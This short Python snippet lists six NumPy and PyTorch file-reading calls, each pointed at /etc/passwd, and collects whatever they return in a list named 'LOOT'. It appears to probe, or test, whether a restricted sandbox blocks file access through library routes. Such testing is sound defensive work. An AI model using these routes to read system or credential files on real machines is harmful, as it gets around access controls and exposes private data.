"""Lets NumPy and torch open files: memory maps, storages, text readers, torch.load."""
import numpy as np

path = "/etc/passwd"
doors = (
    lambda: bytes(np.memmap(path, "u1", "r")[:20]),
    lambda: np.fromfile(path, "u1", 20).tobytes(),
    lambda: bytes(torch.UntypedStorage.from_file(path, False, 20)),
    lambda: torch.from_file(path, size=20, dtype=torch.uint8).tolist(),
    lambda: np.loadtxt(path, str, delimiter="\0", max_rows=1).tolist(),
    lambda: torch._C.PyTorchFileReader(path),
)
for door in doors:
    try:
        LOOT.append(door())
    except (OSError, RuntimeError) as error:
        if "PytorchStreamReader" in str(error) and "archive" in str(error):
            LOOT.append("it was opened")  # and is only no zip
